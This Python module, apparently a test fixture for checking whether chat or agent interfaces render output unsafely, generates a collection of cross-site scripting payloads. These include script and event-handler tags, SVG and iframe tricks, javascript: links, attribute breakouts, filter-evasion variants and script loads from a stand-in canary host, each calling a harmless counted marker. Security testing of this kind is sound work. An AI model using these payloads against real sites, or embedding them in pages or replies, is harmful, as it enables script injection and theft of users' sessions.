"""Texts that run something where a page takes them for markup. `{run}` becomes the call that is counted."""

from dataclasses import dataclass
from typing import Literal

CANARY = "http://canary.example"

# A page that a careless chat would make: the text as HTML, as a link's address, within an attribute.
Kind = Literal["html", "href", "attribute"]


@dataclass(frozen=True)
class Payload:
    kind: Kind
    text: str

    @property
    def careless(self) -> str:
        """A page that shows the text carelessly; "go" is the link to press."""
        if self.kind == "html":
            return f"<!doctype html><p>{self.text}</p>"
        quoted = self.text.replace("&", "&amp;").replace('"', "&quot;")
        address = self.text if self.kind == "attribute" else quoted
        return f'<!doctype html><a id="go" href="{address}">go</a>'

    @property
    def marked(self) -> str:
        """As an agent or a bot may write it in Markdown."""
        if self.kind == "html":
            return f"**{self.text}** and `{self.text}`\n- {self.text}"
        return f"[press]({self.text}) ![seen]({self.text}) <{self.text}> [a]: {self.text}"


_HTML = """
<script>{run}</script>
<ScRiPt>{run}</sCrIpT>
<script type=module>{run}</script>
<script src="data:text/javascript,{run}"></script>
<script>setTimeout("{run}")</script>
<script>Function("{run}")()</script>
<script>import('data:text/javascript,{run}')</script>
<script>\\u0070wned({number})</script>
</textarea><script>{run}</script>
</title><script>{run}</script>
</style><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
"><script>{run}</script>
'><img src=x onerror={run}>
<img src=x onerror={run}>
<img src=x onerror="{run}" alt=">">
<img/src="x"/onerror={run}>
<IMG SRC=x OnErRoR={run}>
<img src=x onerror="&#112;wned({number})">
<img src=x onerror=window['pwned']({number})>
<img src=x onerror=location='javascript:{run}'>
<img src="data:," onerror={run}>
<img srcset=x onerror={run}>
<picture><source srcset=x><img onerror={run} src=x></picture>
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><script>&#112;wned({number})</script></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set onbegin={run} attributeName=x dur=1s>
<svg><image href=x onerror={run}>
<math><mtext></mtext><img src=x onerror={run}></math>
<table><td><img src=x onerror={run}></table>
<noscript><p title="</noscript><img src=x onerror={run}>">
<body onload={run}>
<iframe src="javascript:parent.{run}"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe onload={run}></iframe>
<details open ontoggle={run}>x</details>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}><option>x</select>
<textarea autofocus onfocus={run}></textarea>
<b tabindex=1 autofocus onfocus={run}>x</b>
<input type=image src=x onerror={run}>
<video src=x onerror={run}></video>
<video><source src=x onerror={run}></video>
<audio src=x onerror={run}></audio>
<style onload={run}></style>
<link rel=stylesheet href="data:text/css,x" onload={run}>
<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart={run}>x</b>
<script>alert({number})</script>
<script>confirm({number})</script>
<img src=x onerror=prompt({number})>
<img src={canary}/{number}>
<script src={canary}/{number}></script>
<iframe src={canary}/{number}></iframe>
<link rel=stylesheet href={canary}/{number}>
<style>@import '{canary}/{number}';</style>
<b style="background:url({canary}/{number})">x</b>
<video poster={canary}/{number}></video>
<object data={canary}/{number}></object>
<embed src={canary}/{number}>
""".strip().splitlines()

_HREFS = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "javascript://a.example/%0a{run}",
    "javascript:/*--></title></style>*/{run}",
    "javascript:void({run})",
]

_ATTRIBUTES = [
    'https://a.example/"onfocus="{run}"autofocus="',
    'https://a.example/"><img/src="x"/onerror={run}>',
    'https://a.example/"><script>{run}</script>',
]


def payloads() -> list[Payload]:
    """All of them, each with a number of its own."""
    kinds: list[tuple[Kind, list[str]]] = [
        ("html", _HTML),
        ("href", _HREFS),
        ("attribute", _ATTRIBUTES),
    ]
    texts = [(kind, text) for kind, those in kinds for text in those]
    return [
        Payload(kind, text.format(run=f"pwned({number})", number=number, canary=CANARY))
        for number, (kind, text) in enumerate(texts)
    ]
